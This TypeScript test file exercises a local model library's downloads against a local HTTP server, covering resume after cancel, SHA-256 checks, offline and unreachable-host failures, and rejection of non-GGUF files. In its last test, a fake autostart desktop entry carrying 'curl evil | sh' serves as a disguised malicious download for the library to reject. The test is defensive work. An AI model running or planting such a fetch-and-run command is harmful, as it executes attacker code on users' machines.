// Downloads against a local HTTP server (Range support, and a "stall" switch that holds the stream
// at a byte offset so a download can be cancelled mid-way and resumed).
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { existsSync } from "node:fs";
import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { setTimeout as sleep } from "node:timers/promises";
import { join } from "node:path";
import { getTestModels, type TestModels } from "./fixtures/test-models.ts";
import { LlamaRuntime } from "../native/inference/llama-runtime.ts";
import { ModelLibrary, type ModelLibraryOptions } from "../native/models/library.ts";
import { createModelHandlers } from "../native/engine/model-handlers.ts";
import { isEngineError } from "../native/contract/errors.ts";
import type { CallContext } from "../native/router/types.ts";

interface FileServer {
  server: Server;
  base: string;
  files: Map<string, Buffer>;
  requests: { method: string; url: string; range: string | undefined }[];
  /** Bytes of file bodies sent so far. */
  bytesSent: number;
  /** When set, every response stops sending at this absolute offset and holds the connection. */
  stallAt: number | null;
}

async function startServer(files: Map<string, Buffer>): Promise<FileServer> {
  const state: FileServer = { server: undefined as unknown as Server, base: "", files, requests: [], bytesSent: 0, stallAt: null };
  state.server = createServer((req, res) => {
    state.requests.push({ method: req.method ?? "", url: req.url ?? "", range: req.headers.range });
    const path = new URL(req.url ?? "/", "http://x").pathname;
    const body = files.get(path);
    if (!body) {
      res.writeHead(path === "/" ? 200 : 404).end();
      return;
    }
    let start = 0;
    let end = body.length - 1;
    const range = /^bytes=(\d+)-(\d*)$/.exec(req.headers.range ?? "");
    const headers: Record<string, string | number> = { "content-type": "application/octet-stream", "accept-ranges": "bytes" };
    if (range) {
      start = Number(range[1]);
      if (range[2]) end = Math.min(Number(range[2]), body.length - 1);
      headers["content-range"] = `bytes ${start}-${end}/${body.length}`;
    }
    headers["content-length"] = end - start + 1;
    res.writeHead(range ? 206 : 200, headers);
    if (req.method === "HEAD") {
      res.end();
      return;
    }
    let pos = start;
    const pump = () => {
      if (res.destroyed) return;
      const limit = state.stallAt !== null ? Math.min(end + 1, state.stallAt) : end + 1;
      if (pos >= end + 1) {
        res.end();
        return;
      }
      if (pos >= limit) {
        setTimeout(pump, 20); // stalled: keep the connection open, send nothing
        return;
      }
      const n = Math.min(64 * 1024, limit - pos);
      state.bytesSent += n;
      const ok = res.write(body.subarray(pos, pos + n));
      pos += n;
      if (ok) setImmediate(pump);
      else res.once("drain", pump);
    };
    pump();
  });
  await new Promise<void>((resolve) => state.server.listen(0, "127.0.0.1", resolve));
  state.base = `http://127.0.0.1:${(state.server.address() as AddressInfo).port}`;
  return state;
}

const sha256 = (b: Buffer) => createHash("sha256").update(b).digest("hex");

let models: TestModels;
let files: Map<string, Buffer>;
let srv: FileServer;
let home: string;
let runtime: LlamaRuntime;
const libraries: ModelLibrary[] = [];

async function open(extra: Partial<ModelLibraryOptions> = {}): Promise<ModelLibrary> {
  const library = await ModelLibrary.open({
    dataDir: join(home, `data-${libraries.length}`),
    runtime,
    homeDir: home,
    env: {},
    includeAppFolders: false,
    ...extra,
  });
  libraries.push(library);
  return library;
}

function fakeContext(signal = new AbortController().signal): CallContext & { events: { task: string; fraction: number | null; current?: number; total?: number }[] } {
  const events: { task: string; fraction: number | null; current?: number; total?: number }[] = [];
  return { requestId: "t", signal, events, emit: (_e, payload) => void events.push(payload as never) };
}

before(async () => {
  models = await getTestModels();
  files = new Map([
    ["/enclave/tiny/resolve/main/tiny-q8_0.gguf", await readFile(models.q8_0)],
    ["/files/tiny-f16.gguf", await readFile(models.f16)],
    ["/files/tiny-q4_0.gguf", await readFile(models.q4_0)],
  ]);
  srv = await startServer(files);
  home = await mkdtemp(join(tmpdir(), "enclave-models-dl-"));
  runtime = new LlamaRuntime({ gpu: false, maxThreads: 1 });
});

after(async () => {
  for (const l of libraries) await l.dispose();
  await runtime?.dispose();
  srv?.server.closeAllConnections();
  await new Promise((resolve) => srv?.server.close(resolve));
  if (home) await rm(home, { recursive: true, force: true });
});

// Only libraries that download hf: URIs point the Hugging Face endpoint at the local server:
// node-llama-cpp treats every URL on the endpoint's host name as a Hugging Face URL, so a plain
// http://127.0.0.1:<port>/files/x.gguf would otherwise be read as the repository "files/x.gguf".
const hfMirror = () => ({ endpoints: { huggingFace: `${srv.base}/` } });

test("an hf: URI downloads into the download folder and becomes a library entry", async () => {
  const library = await open(hfMirror());
  const handlers = createModelHandlers({ library });
  const ctx = fakeContext();
  const body = files.get("/enclave/tiny/resolve/main/tiny-q8_0.gguf")!;
  const { model } = await handlers["models.download"]({ uri: "hf:enclave/tiny/tiny-q8_0.gguf", sha256: sha256(body) }, ctx);
  assert.equal(model.source, "download");
  assert.ok(model.path.startsWith(library.downloadDir), model.path);
  assert.equal(model.quant, "Q8_0");
  assert.equal(model.name, models.name);
  assert.equal(model.error, null);
  assert.deepEqual(await readFile(model.path), body);
  assert.equal((await library.hash(model.path)).cached, true, "the verified digest is cached");

  const downloads = ctx.events.filter((e) => e.task === "download");
  assert.ok(downloads.length >= 1, "download progress was reported");
  assert.equal(downloads.at(-1)!.total, body.length);
  assert.ok(downloads.every((e) => e.fraction === null || (e.fraction >= 0 && e.fraction <= 1)));
  assert.ok((await library.entries()).some((e) => e.id === model.id), "listed without a rescan");
  assert.ok((await library.entries({ rescan: true })).some((e) => e.id === model.id), "and found by a rescan");
});

test("a cancelled download stops with ABORTED and resumes from its temp file", async () => {
  const library = await open();
  const body = files.get("/files/tiny-f16.gguf")!;
  assert.ok(body.length > 5 * 1024 * 1024 + 1024 * 1024, "bigger than one 5 MiB download chunk");
  const uri = `${srv.base}/files/tiny-f16.gguf`;
  const stallAt = 8 * 1024 * 1024;
  srv.stallAt = stallAt;
  const controller = new AbortController();
  const watchdog = setTimeout(() => controller.abort(), 20_000);
  await assert.rejects(
    library.download({ uri, sha256: sha256(body) }, {
      signal: controller.signal,
      onProgress: (p) => {
        if (p.current >= stallAt) controller.abort();
      },
    }),
    (e) => isEngineError(e, "ABORTED"),
  );
  clearTimeout(watchdog);
  srv.stallAt = null;
  // The downloader writes its resume state as it closes: wait for it.
  let leftovers: string[] = [];
  for (let i = 0; i < 50 && !leftovers.some((f) => f.endsWith(".ipull")); i++) {
    await sleep(100);
    leftovers = await readdir(library.downloadDir);
  }
  assert.ok(leftovers.some((f) => f.endsWith(".ipull")), `temp file kept: ${leftovers.join(", ")}`);
  assert.ok(!existsSync(join(library.downloadDir, "tiny-f16.gguf")), "no finished file after a cancel");

  const sentBefore = srv.bytesSent;
  const model = await library.download({ uri, sha256: sha256(body) });
  const resent = srv.bytesSent - sentBefore;
  assert.deepEqual(await readFile(model.path), body);
  assert.ok(resent < body.length, `resumed: ${resent} of ${body.length} bytes sent again`);
  assert.equal(model.quant, "F16");
});

test("a SHA-256 mismatch fails with DOWNLOAD_FAILED and deletes the file", async () => {
  const library = await open();
  await assert.rejects(
    library.download({ uri: `${srv.base}/files/tiny-q4_0.gguf`, sha256: "0".repeat(64) }),
    (e) => isEngineError(e, "DOWNLOAD_FAILED") && /SHA-256/.test(e.message),
  );
  assert.ok(!existsSync(join(library.downloadDir, "tiny-q4_0.gguf")));
  assert.ok(!(await library.entries()).some((e) => e.path.endsWith("tiny-q4_0.gguf")));
});

test("offline refuses at once, without touching the network", async () => {
  const library = await open({ ...hfMirror(), isOffline: () => true });
  const before = srv.requests.length;
  const started = Date.now();
  await assert.rejects(library.download({ uri: "hf:enclave/tiny/tiny-q8_0.gguf" }), (e) => isEngineError(e, "OFFLINE"));
  assert.ok(Date.now() - started < 1000, `took ${Date.now() - started} ms`);
  assert.equal(srv.requests.length, before);
});

test("an unreachable host fails fast instead of hanging", async () => {
  // A port nobody listens on: refused at once.
  const probe = createServer();
  await new Promise<void>((resolve) => probe.listen(0, "127.0.0.1", resolve));
  const port = (probe.address() as AddressInfo).port;
  await new Promise((resolve) => probe.close(resolve));
  const library = await open({ endpoints: { huggingFace: `http://127.0.0.1:${port}/` } });
  let started = Date.now();
  await assert.rejects(library.download({ uri: "hf:enclave/tiny/tiny-q8_0.gguf" }), (e) => isEngineError(e, "DOWNLOAD_FAILED"));
  assert.ok(Date.now() - started < 3500, `took ${Date.now() - started} ms`);

  // A non-routable address (TEST-NET-1): no answer, or no route, within the probe's timeout.
  const blackhole = await open({ endpoints: { huggingFace: "http://192.0.2.1/" }, reachabilityTimeoutMs: 500 });
  started = Date.now();
  await assert.rejects(blackhole.download({ uri: "hf:enclave/tiny/tiny-q8_0.gguf" }), (e) => isEngineError(e, "OFFLINE") || isEngineError(e, "DOWNLOAD_FAILED"));
  assert.ok(Date.now() - started < 2000, `took ${Date.now() - started} ms`);

  // A missing file on a live server: DOWNLOAD_FAILED with the status, no retries for minutes.
  const plain = await open();
  started = Date.now();
  await assert.rejects(plain.download({ uri: `${srv.base}/files/missing.gguf`, sha256: "0".repeat(64) }), (e) => isEngineError(e, "DOWNLOAD_FAILED") && /404/.test(e.message));
  assert.ok(Date.now() - started < 3500, `took ${Date.now() - started} ms`);
  await assert.rejects(plain.download({ uri: "ftp://example.com/x.gguf" }), (e) => isEngineError(e, "INVALID_INPUT"));
});

test("issue 7: a plain-http download needs a SHA-256, and what arrives must be a GGUF or it is deleted", async () => {
  const library = await open();
  const requestsBefore = srv.requests.length;
  await assert.rejects(
    library.download({ uri: `${srv.base}/files/tiny-q4_0.gguf` }),
    (e) => isEngineError(e, "INVALID_INPUT") && /SHA-256/.test(e.message),
  );
  assert.equal(srv.requests.length, requestsBefore, "refused before any request");

  const script = Buffer.from("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n");
  files.set("/files/autostart.gguf", script);
  await assert.rejects(
    library.download({ uri: `${srv.base}/files/autostart.gguf`, sha256: sha256(script) }),
    (e) => isEngineError(e, "INVALID_MODEL_FILE") && /not a GGUF/.test(e.message),
  );
  assert.ok(!existsSync(join(library.downloadDir, "autostart.gguf")), "the non-GGUF file was deleted");
});
